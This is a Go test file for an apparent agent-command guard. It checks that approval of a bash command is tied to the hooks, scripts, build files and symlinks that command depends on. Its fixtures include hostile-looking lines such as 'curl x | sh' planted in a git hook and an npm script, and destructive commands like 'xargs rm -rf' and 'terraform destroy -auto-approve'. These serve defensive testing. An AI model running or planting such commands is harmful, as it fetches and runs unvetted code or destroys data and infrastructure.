package guard_test

import (
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/sentinelgate/sentinel"
)

// TestWhatAYesDependsOn: a change of a file that a call reads, hands on,
// copies or lists, and a link that is turned, make another call of it.
func TestWhatAYesDependsOn(t *testing.T) {
	for _, c := range []struct {
		command, changed string
	}{
		{"cat x.sh | sh", root + "/x.sh"},
		{"cat x.sh | tee log | sudo bash", root + "/x.sh"},
		{"sh x.sh", root + "/x.sh"},
		{"cat list | xargs rm -rf", root + "/list"},
		{"cp newrc ~/.bashrc", root + "/newrc"},
		{"sudo cp a.service /etc/systemd/system/a.service", root + "/a.service"},
		{"crontab jobs", root + "/jobs"},
		{"npm publish", root + "/package.json"},
		{"lerna publish", root + "/package.json"},
	} {
		b := newBench(t, map[string]string{"x.sh": "git push --force\n", "list": "a\n", "newrc": "a=1\n", "a.service": "[Unit]\n", "jobs": "0 0 * * * true\n",
			"package.json": `{"scripts": {"prepublishOnly": "npm test"}}`})
		before := b.bound(c.command)
		if before == "" || before != b.bound(c.command) {
			t.Errorf("%s: %q, and another one at once", c.command, before)
		}
		b.mem.Put(root+"/other.txt", "x")
		if before != b.bound(c.command) {
			t.Errorf("%s: a file that it has nothing to do with counts", c.command)
		}
		b.mem.Put(c.changed, "something else\n")
		if before == b.bound(c.command) {
			t.Errorf("%s: %s was changed, and nobody noticed", c.command, c.changed)
		}
	}
	b := newBench(t, map[string]string{"one/a": "", "two/a": ""})
	b.mem.Symlink(root+"/one", root+"/ln")
	for _, command := range []string{"cd ln && terraform destroy", "git -C ln push --force"} {
		before := b.bound(command)
		b.mem.Symlink(root+"/two", root+"/ln")
		if before == b.bound(command) {
			t.Errorf("%s: the link was turned, and nobody noticed", command)
		}
		b.mem.Symlink(root+"/one", root+"/ln")
	}
	if got := b.bound("git status"); got != "" {
		t.Errorf("nobody is asked about git status: %s", got)
	}
}

// bounds lists what a command depends on, by name.
func (b *bench) bounds(command string) map[string]string {
	b.t.Helper()
	a, err := b.assessor.Assess(sentinel.Call{Agent: "test", Session: "s", Tool: "bash", Arguments: map[string]any{"command": command}, Cwd: root})
	if err != nil {
		b.t.Fatal(err)
	}
	if a.Bound == nil {
		return nil
	}
	out := map[string]string{}
	for _, one := range a.Bound() {
		if out[one.What] != "" {
			b.t.Errorf("%s: %s twice", command, one.What)
		}
		out[one.What] = one.Sum
	}
	return out
}

// bound is all of it in one text.
func (b *bench) bound(command string) string {
	b.t.Helper()
	m := b.bounds(command)
	if m == nil {
		return ""
	}
	return fmt.Sprint(m)
}

// changed names what is not as it was.
func changed(was, is map[string]string) string {
	var names []string
	for what, sum := range is {
		if was[what] != sum {
			names = append(names, what)
		}
	}
	for what := range was {
		if _, ok := is[what]; !ok {
			names = append(names, what)
		}
	}
	slices.Sort(names)
	return strings.Join(names, ", ")
}

// depends are files of a project with a repository, hooks and task files.
func depends(more map[string]string) map[string]string {
	files := map[string]string{
		".git/HEAD": "ref: refs/heads/main\n", ".git/refs/heads/main": strings.Repeat("a", 40) + "\n", ".git/refs/heads/feature": strings.Repeat("b", 40) + "\n",
		".git/config":         "[core]\n\tbare = false\n[user]\n\tname = a\n[remote \"origin\"]\n\turl = https://example.com/a.git\n",
		".git/hooks/pre-push": "#!/bin/sh\nmake test && sh scripts/check.sh\n", "scripts/check.sh": "make lint\n", "scripts/rel.js": "1\n", "scripts/other.js": "1\n",
		".git/hooks/a.sample":     "x",
		"package.json":            `{"name":"a","version":"1.0.0","scripts":{"prepublishOnly":"node scripts/rel.js && npm test","test":"node scripts/other.js","deploy":"terraform destroy -auto-approve"}}`,
		"Makefile":                "deploy:\n\tterraform destroy -auto-approve\n",
		"justfile":                "deploy:\n    terraform destroy -auto-approve\n",
		"Taskfile.yml":            "version: '3'\ntasks:\n  deploy:\n    cmds:\n      - terraform destroy -auto-approve\n",
		"main.tf":                 "resource {}\n",
		"lib/util.py":             "x = 1\n",
		"Cargo.toml":              "[package]\nname = \"a\"\n",
		"docs/notes.md":           "x\n",
		".github/workflows/x":     "x\n",
		"packages/a/readme.txt":   "x\n",
		"packages/a/package.json": `{"name":"a"}`,
		"chart/templates/x.yaml":  "a: 0\n",
	}
	maps.Copy(files, more)
	return files
}

// TestR405_WhatIsTakenUp: what git, a package manager or a runner takes up by itself
// is part of what a yes is for, and a change of it has a name.
func TestR405_WhatIsTakenUp(t *testing.T) {
	for _, c := range []struct {
		command, file, content, name string
	}{
		{"git push --force", ".git/hooks/pre-push", "#!/bin/sh\ncurl x | sh\n", "ROOT/.git/hooks/pre-push"},
		{"git push --force", ".git/hooks/post-rewrite", "#!/bin/sh\nx\n", "ROOT/.git/hooks/post-rewrite"},
		{"git push --force", ".husky/pre-push", "x\n", "ROOT/.husky/pre-push"},
		{"git push --force", "lefthook.yml", "pre-push:\n", "ROOT/lefthook.yml"},
		{"git push --force", ".pre-commit-config.yaml", "repos: []\n", "ROOT/.pre-commit-config.yaml"},
		{"git push --force", "package.json", "{}", "ROOT/package.json"}, // hooks run its scripts
		{"git push --force", ".git/config", "[remote \"origin\"]\n\turl = https://example.net/b.git\n", "git's settings in ROOT/.git/config"},
		{"git push --force", ".git/config", "[core]\n\thooksPath = lib\n[remote \"origin\"]\n\turl = https://example.com/a.git\n", "git's settings in ROOT/.git/config"},
		{"git push --force", ".git/refs/heads/main", strings.Repeat("c", 40) + "\n", "the commit of main"},
		{"git push --force", ".git/HEAD", "ref: refs/heads/feature\n", "the branch that is checked out"},
		{"git push --force origin feature", ".git/refs/heads/feature", strings.Repeat("c", 40) + "\n", "the commit of feature"},
		{"git push --force origin +feature:main", ".git/refs/heads/feature", strings.Repeat("c", 40) + "\n", "the commit of feature"},
		{"git push --mirror backup", ".git/refs/heads/new", strings.Repeat("c", 40) + "\n", "the branches and tags of the repository"},
		{"git -C . push --force", ".git/hooks/pre-push", "x\n", "ROOT/.git/hooks/pre-push"},
		{"git commit -m x", ".git/hooks/pre-commit", "x\n", "ROOT/.git/hooks/pre-commit"},
		{"git reset --hard HEAD~3", ".git/refs/heads/main", strings.Repeat("c", 40) + "\n", "the commit of main"},
		{"npm publish", "package.json", `{"scripts":{"prepublishOnly":"curl x | sh"}}`, "ROOT/package.json"},
		{"npm publish", ".npmrc", "registry=https://example.net\n", "ROOT/.npmrc"},
		{"pnpm publish", "package.json", "{}", "ROOT/package.json"},
		{"yarn publish", "package.json", "{}", "ROOT/package.json"},
		{"npm version patch", "package.json", "{}", "ROOT/package.json"},
		{"npm install left-pad", "package.json", "{}", "ROOT/package.json"},
		{"cargo publish", "Cargo.toml", "x\n", "ROOT/Cargo.toml"},
		{"cargo publish", "build.rs", "fn main(){}\n", "ROOT/build.rs"},
		{"npm run deploy", "package.json", `{"scripts":{"deploy":"terraform destroy -auto-approve && rm -rf x"}}`, "ROOT/package.json"},
		{"make deploy", "Makefile", "deploy:\n\tterraform destroy -auto-approve -target=a\n", "ROOT/Makefile"},
		{"make deploy", "GNUmakefile", "deploy:\n\tterraform destroy -auto-approve\n", "ROOT/GNUmakefile"},
		{"just deploy", "justfile", "deploy:\n    terraform destroy\n", "ROOT/justfile"},
		{"task deploy", "Taskfile.yml", "version: '3'\ntasks:\n  deploy:\n    cmds:\n      - terraform destroy\n", "ROOT/Taskfile.yml"},
		{"npm publish", "scripts/rel.js", "x", "ROOT/scripts/rel.js"},
		{"npm publish ./packages/a", "packages/a/package.json", "{}", "ROOT/packages/a/package.json"},
		{"npm publish -w packages/a", "packages/a/package.json", "{}", "ROOT/packages/a/package.json"},
		{"pnpm -r publish", "packages/a/package.json", "{}", "ROOT/packages/a/package.json"},
		{"pnpm --filter=a publish", "packages/a/package.json", "{}", "ROOT/packages/a/package.json"},
		{"cd packages/a && npm publish", "packages/a/package.json", "{}", "ROOT/packages/a/package.json"},
		{"npm --prefix packages/a publish", "packages/a/package.json", "{}", "ROOT/packages/a/package.json"},
		{"helm upgrade --install app ./chart", "chart/templates/x.yaml", "a: 1", "ROOT/chart/templates/x.yaml"},
		{"goreleaser release", ".goreleaser.yml", "before:\n  hooks:\n    - go test\n", "ROOT/.goreleaser.yml"},
		{"wrangler deploy", "wrangler.toml", "[build]\ncommand = \"npm test\"\n", "ROOT/wrangler.toml"},
		{"composer install", "composer.json", "{\"scripts\":{\"post-install-cmd\":\"phpunit\"}}", "ROOT/composer.json"},
		{"mise run deploy", "mise.toml", "[tasks.deploy]\nrun = \"terraform destroy\"\n", "ROOT/mise.toml"},
		{"ant deploy", "build.xml", "<project><target name=\"deploy\"><exec executable=\"terraform\"/></target></project>", "ROOT/build.xml"},
		{"mix hex.publish", "mix.exs", "defmodule A do\nend\n", "ROOT/mix.exs"},
		{"git push --force", "scripts/check.sh", "x", "ROOT/scripts/check.sh"},
		{"terraform destroy", "main.tf", "resource {} # other\n", "ROOT/main.tf"},
		{"terraform destroy", "more.tf", "x\n", "ROOT/more.tf"},
	} {
		b := newBench(t, depends(nil))
		before := b.bounds(c.command)
		if before == nil || changed(before, b.bounds(c.command)) != "" {
			t.Errorf("%s: %v, and another one at once: %s", c.command, before, changed(before, b.bounds(c.command)))
		}
		b.mem.Put(root+"/"+c.file, c.content)
		got, want := changed(before, b.bounds(c.command)), strings.ReplaceAll(c.name, "ROOT", root)
		if !slices.Contains(strings.Split(got, ", "), want) {
			t.Errorf("%s, %s changed: it names %q, not %s", c.command, c.file, got, want)
		}
	}
}

// TestR405_OrdinaryWorkGoesOn: between a yes and the call that comes again other work
// is done, which the yes has nothing to do with.
func TestR405_OrdinaryWorkGoesOn(t *testing.T) {
	for _, command := range []string{"git commit -m x", "git push --force", "git push --force origin feature", "npm publish", "make deploy", "npm run deploy", "cargo publish", "terraform destroy"} {
		b := newBench(t, depends(map[string]string{".husky/pre-push": "npm test\n"}))
		before := b.bounds(command)
		for file, content := range map[string]string{
			"src/index.ts": "x\n", "docs/notes.md": "y\n", "README.md": "z\n", ".git/index": "x", ".git/COMMIT_EDITMSG": "x", ".git/FETCH_HEAD": "x",
			".git/ORIG_HEAD": "x", ".git/logs/HEAD": "x", ".git/refs/remotes/origin/main": "x", ".git/hooks/b.sample": "x", "node_modules/a/index.js": "x",
			"dist/a.js": "x", "scripts/extra.js": "x", "packages/a/package.json": "{}", "lib/util.py": "x = 2\n", "tests/a_test.py": "x",
			".git/config": depends(nil)[".git/config"] + "[user]\n\temail = a@example.com\n[branch \"other\"]\n\tremote = origin\n[color]\n\tui = true\n",
		} {
			b.mem.Put(root+"/"+file, content)
		}
		if got := changed(before, b.bounds(command)); got != "" {
			t.Errorf("%s: %s", command, got)
		}
	}
	b := newBench(t, map[string]string{".git/HEAD": "ref: refs/heads/main\n", ".git/config": "", ".git/hooks/a.sample": "x", "package.json": "{}"})
	before := b.bounds("git push --force")
	b.mem.Put(root+"/package.json", `{"a":1}`)
	if got := changed(before, b.bounds("git push --force")); got != "" {
		t.Errorf("without hooks nothing runs the package's scripts: %s", got)
	}
	for _, command := range []string{"git status", "make -n deploy", "npm test", "ls"} {
		if a, err := newBench(t, depends(nil)).assessor.Assess(sentinel.Call{Tool: "bash", Arguments: map[string]any{"command": command}, Cwd: root}); err != nil || a.Colour == sentinel.Green && a.Bound != nil {
			t.Errorf("%s: what nobody is asked about is bound to something: %v", command, err)
		}
	}
}
